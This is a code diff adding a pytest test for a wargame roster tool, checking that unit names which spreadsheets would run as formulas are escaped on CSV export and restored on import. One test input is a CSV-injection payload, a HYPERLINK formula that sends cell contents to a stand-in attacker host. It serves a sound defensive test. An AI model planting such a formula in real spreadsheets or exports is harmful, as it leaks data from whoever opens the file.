@@ -101,6 +101,29 @@ def test_a_spreadsheets_own_file_with_semicolons_and_a_byte_order_mark_musters(t
     )  # fmt: skip
 
 
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_mustered_back_the_same(
+    tmp_path: Path,
+) -> None:
+    """A player may name a unit ``=HYPERLINK(…)`` or ``@SUM(1+1)``: written as it is, a spreadsheet opening the GM's
+    roster would run it (OWASP's CSV injection). A text cell that starts as a formula does (=, +, -, @, tab) is
+    written after a ``'``, and mustered back without it; a name of its own starting with ``'`` is kept."""
+    cli = Cli(str(tmp_path / "gf.db"))
+    cli("new", "Roster", "--ruleset", "grimdark")
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+Raptors", "-Raptors", "'Ard Boyz"]
+    for name in names:  # after "--": a name starting with "-" is no option
+        cli("gf", "muster", "--side", "Saurians", "--size", "5", "--quality", "4", "--points", "50", "--", name)
+    written = cli("gf", "roster", "--format", "csv").stdout
+    cells = {r["name"] for r in rows(written)}
+    assert cells == {"'" + n for n in names[:4]} | {"'Ard Boyz"}
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows(written) for cell in r.values())
+    path = tmp_path / "roster.csv"
+    path.write_text(written, encoding="utf-8")
+    second = Cli(str(tmp_path / "second.db"))
+    second("new", "Roster", "--ruleset", "grimdark")
+    second("gf", "muster", "--from", str(path))
+    assert sorted(u["unit"] for u in second.json("gf", "roster")["units"]) == sorted(names)
+
+
 @pytest.mark.parametrize(
     ("text", "said"),
     [
